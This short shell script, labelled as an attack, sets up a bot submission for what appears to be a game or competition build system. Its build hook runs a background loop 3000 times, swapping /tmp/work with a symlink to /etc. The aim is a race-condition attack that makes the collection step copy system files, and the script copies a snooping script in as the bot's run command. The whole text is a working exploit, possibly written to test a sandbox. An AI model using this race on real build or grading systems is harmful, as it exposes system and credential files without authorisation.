# attack: a leftover of the build exchanges folders while they are collected
mkdir bot
cp "$SNOOP" bot/play.sh
cat > bot/build.sh <<'EOF'
(i=0; while [ $i -lt 3000 ]; do mv /tmp/work /tmp/gone; ln -s /etc /tmp/work; rm /tmp/work; mv /tmp/gone /tmp/work; i=$((i + 1)); done) > /dev/null 2>&1 &
sleep 0.05
EOF
printf 'run = "sh play.sh"\nbuild = "sh build.sh"\n' > bot/skirmish.toml
